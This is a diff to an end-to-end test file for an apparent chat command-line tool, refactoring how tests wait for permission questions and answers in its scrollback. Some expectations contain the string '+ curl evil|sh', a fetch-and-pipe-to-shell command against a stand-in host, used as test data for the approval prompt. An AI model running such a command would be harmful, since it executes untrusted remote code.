@@ -92,7 +92,11 @@ describe('a question in the chat', { timeout, tags: ['d-question-whole'] }, () =
     await it.until(ready, 'the composer');
     await it.say('go');
     await it.until(choices, 'the question');
-    expect(joined(it.scrollback())).toContain(line);
+    await it.until(
+      (all) => all.includes(line),
+      line,
+      () => joined(it.scrollback()),
+    );
     it.type('n');
     await it.until(/Answered: no/, 'the end of the question');
     expect(await textOf(wanted.path)).toBe(wanted.before);
@@ -105,8 +109,10 @@ describe('a question in the chat', { timeout, tags: ['d-question-whole'] }, () =
     await it.until(ready, 'the composer');
     await it.say('go');
     await it.until(choices, 'the question');
-    expect(joined(it.scrollback())).toContain(path);
-    expect(joined(it.scrollback())).toContain('it is asked about every time');
+    const all = await it.until(/it is asked about every time/, 'the reason', () =>
+      joined(it.scrollback()),
+    );
+    expect(all).toContain(path);
   });
 });
 
@@ -184,7 +190,7 @@ describe('the plain chat', { timeout, tags: ['d-question-answered', 'd-question-
     await using it = start({ args: ['--plain'] });
     await it.until(/^> $/m, 'the prompt', () => `${it.scrollback()} `);
     it.type('Is this list right?\ry\r');
-    await it.until(/Answered: no/, 'the answer', () => it.scrollback());
+    await it.shows(/Answered: no/, 'the answer');
     expect(it.scrollback()).toContain('+ curl evil|sh');
     expect(await textOf('b.sh')).toBe('x\n');
   });
@@ -196,7 +202,7 @@ describe('the plain chat', { timeout, tags: ['d-question-answered', 'd-question-
     await using it = start({ args: ['--plain'] });
     await it.until(/^> $/m, 'the prompt', () => `${it.scrollback()} `);
     it.type('go\r');
-    await it.until(/yes \d{4}: Allow this time/, 'the question', () => it.scrollback());
+    await it.shows(/yes \d{4}: Allow this time/, 'the question');
     const lines = it.scrollback().split('\n');
     const first = lines.findIndex((line) => line.startsWith('  + curl evil'));
     const end = lines.findIndex((line) => /^yes \d{4}/.test(line));
@@ -210,12 +216,10 @@ describe('the plain chat', { timeout, tags: ['d-question-answered', 'd-question-
     await using it = start({ args: ['--plain'] });
     await it.until(/^> $/m, 'the prompt', () => `${it.scrollback()} `);
     it.type('go\r');
-    const asked = await it.until(/yes \d{4}: Allow this time/, 'the question', () =>
-      it.scrollback(),
-    );
+    const asked = await it.shows(/yes \d{4}: Allow this time/, 'the question');
     it.type(`yes ${/yes (\d{4})/.exec(asked)?.[1]}\r`);
-    await it.until(/Answered: Allow this time/, 'the answer', () => it.scrollback());
-    await it.until(/all done/, 'the end', () => it.scrollback());
+    await it.shows(/Answered: Allow this time/, 'the answer');
+    await it.shows(/all done/, 'the end');
     expect(await textOf('b.txt')).toBe('y\n');
   });
 });
